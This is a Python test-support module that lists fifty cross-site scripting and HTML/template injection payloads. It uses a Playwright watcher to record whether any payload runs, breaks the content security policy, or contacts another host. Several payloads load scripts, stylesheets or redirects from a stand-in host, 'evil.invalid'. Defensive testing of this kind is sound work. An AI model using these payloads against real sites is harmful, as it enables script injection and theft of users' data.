"""Fifty texts that become programs where a page takes them for more, and what a browser does about them."""

from playwright.async_api import BrowserContext, ConsoleMessage, Page
from yarl import URL

# Each would call `owned` or go to this host.
EVIL = "evil.invalid"
PAYLOADS = (
    # Elements.
    "<script>owned()</script>",
    "</script><script>owned()</script>",
    "<scr\tipt>owned()</scr\tipt><SCRIPT/x>owned()</SCRIPT>",
    f"<script src=//{EVIL}/a.js></script>",
    "<img src=x onerror=owned()>",
    "<img src=x onerror=owned()//",
    '<img srcset="x 1x" onerror="owned()">',
    "<svg onload=owned()>",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<body onload=owned()>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<iframe src=javascript:parent.owned()></iframe>",
    "<details open ontoggle=owned()>",
    "<video><source onerror=owned()></video>",
    "<audio src=x onerror=owned()>",
    "<input autofocus onfocus=owned()>",
    "<select autofocus onfocus=owned()>",
    "<marquee onstart=owned()>",
    "<object data=javascript:owned()></object>",
    "<embed src=javascript:owned()>",
    "<math><mi xlink:href=javascript:owned()>x</mi></math>",
    "<a href=javascript:owned()>x</a>",
    "<form action=javascript:owned()><button autofocus>x</button></form>",
    "<template><img src=x onerror=owned()></template>",
    # To another host.
    f"<link rel=stylesheet href=//{EVIL}/a.css>",
    f"<style>@import '//{EVIL}/a.css'; body{{background:url(//{EVIL}/b)}}</style>",
    f"<base href=//{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<img src=//{EVIL}/pixel>",
    # Out of where they stand.
    "</title><img src=x onerror=owned()>",
    "</textarea><img src=x onerror=owned()>",
    "</style><img src=x onerror=owned()>",
    "</noscript><img src=x onerror=owned()>",
    "--><img src=x onerror=owned()>",
    "]]><img src=x onerror=owned()>",
    '"><img src=x onerror=owned()>',
    "'><img src=x onerror=owned()>",
    '" autofocus onfocus="owned()" x="',
    "' autofocus onfocus='owned()' x='",
    # Into scripts and templates.
    "'-owned()-'",
    '"-owned()-"',
    "\\\"-owned()//\\'-owned()//",
    "`${owned()}`",
    "${owned()}",
    "{{constructor.constructor('owned()')()}}{% raw %}{{7*7}}",
    "\u2028owned()\u2029//",
    # Taken apart once too often.
    "&lt;img src=x onerror=owned()&gt;&#60;img src=x onerror=owned()&#62;",
    "%3Cimg%20src=x%20onerror=owned()%3E\\u003cimg src=x onerror=owned()\\u003e",
    "javascript:owned()//\u202e<img src=x onerror=owned()>",
)
assert len(set(PAYLOADS)) == 50

_WATCH = """
    window.ran = [];
    window.broken = [];
    window.owned = () => ran.push(document.activeElement?.outerHTML ?? "");
    addEventListener("securitypolicyviolation", (event) =>
        broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""


class Watch:
    """What came of payloads on the pages of one browser; in words and figures for a proof."""

    def __init__(self) -> None:
        self.pages = 0
        self.ran: list[str] = []
        self.broken: list[str] = []  # of the content security policy
        self.errors: list[str] = []
        self.foreign: list[str] = []

    async def over(self, context: BrowserContext, site: str) -> None:
        """Watch what is opened there from now on; all of it is to be at `site`."""
        await context.add_init_script(_WATCH)
        host = URL(site).host

        def note(url: str) -> None:
            if URL(url).scheme not in ("data", "blob", "about") and URL(url).host != host:
                self.foreign.append(url)

        context.on("request", lambda request: note(request.url))
        context.on("weberror", lambda error: self.errors.append(str(error.error)))
        context.on("console", self._hear)
        context.on("page", lambda page: page.on("websocket", lambda socket: note(socket.url)))

    def _hear(self, message: ConsoleMessage) -> None:
        # A page whose requests a proof has refused says so itself.
        if message.type == "error" and not message.text.startswith("Failed to load resource"):
            self.errors.append(message.text)

    async def look(self, page: Page) -> None:
        """Note what has happened on this page, before it is left."""
        found: dict[str, list[str]] = await page.evaluate("({ ran: window.ran, broken: window.broken })")
        self.pages += 1
        self.ran += found["ran"]
        self.broken += found["broken"]

    @property
    def troubles(self) -> dict[str, list[str]]:
        return {name: value for name, value in vars(self).items() if isinstance(value, list) and value}

    def describe(self) -> str:
        return (
            f"{len(self.ran)} run, {len(self.errors)} errors on the console, {len(self.broken)} violations "
            f"of the policy, {len(self.foreign)} requests to other hosts"
        )
